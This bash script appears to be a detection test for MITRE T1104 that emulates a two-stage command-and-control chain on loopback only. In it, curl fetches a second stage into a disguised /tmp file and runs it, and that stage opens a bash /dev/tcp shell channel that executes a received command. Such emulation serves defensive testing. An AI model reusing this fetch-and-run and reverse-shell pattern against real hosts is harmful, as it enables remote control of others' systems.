#!/bin/bash
# Multi-stage command and control on loopback: a first stage fetches the second stage with curl from one server (a local web port) into /tmp and runs it; the second stage opens its own, separate channel to a different listener (bash /dev/tcp), takes a command from it (id) and sends the output back. Both servers are one Python process on ephemeral loopback ports that ends after the session.
# technique: T1104
# expect: multi-stage-channel
set -eu
cat > servers.py <<'PY'
import http.server
import socket
import sys
import threading

c2 = socket.socket()
c2.bind(("127.0.0.1", 0))
c2.listen(1)
stage2 = (
    "#!/bin/bash\n"
    f"exec 3<>/dev/tcp/127.0.0.1/{c2.getsockname()[1]}\n"
    'read -r cmd <&3\nsh -c "$cmd" >&3 2>&1\nexec 3>&-\n'
).encode()


class Stage(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Length", str(len(stage2)))
        self.end_headers()
        self.wfile.write(stage2)

    def log_message(self, *args) -> None:
        pass


web = http.server.HTTPServer(("127.0.0.1", 0), Stage)
threading.Thread(target=web.serve_forever, daemon=True).start()
with open(sys.argv[1], "w") as f:
    f.write(str(web.server_address[1]))
c2.settimeout(60)
conn, _ = c2.accept()
conn.sendall(b"id\n")
reply = b""
while chunk := conn.recv(4096):
    reply += chunk
with open(sys.argv[2], "wb") as f:
    f.write(reply)
PY
/usr/bin/python3 servers.py web.port session.log &
servers=$!
for _ in $(seq 50); do [ -s web.port ] && break; sleep 0.1; done
# stage 1: fetch the second stage into /tmp and run it
curl -s -o /tmp/.x11-cache "http://127.0.0.1:$(cat web.port)/stage2"
chmod +x /tmp/.x11-cache
/tmp/.x11-cache
wait "$servers"
grep -q uid= session.log
rm -f /tmp/.x11-cache
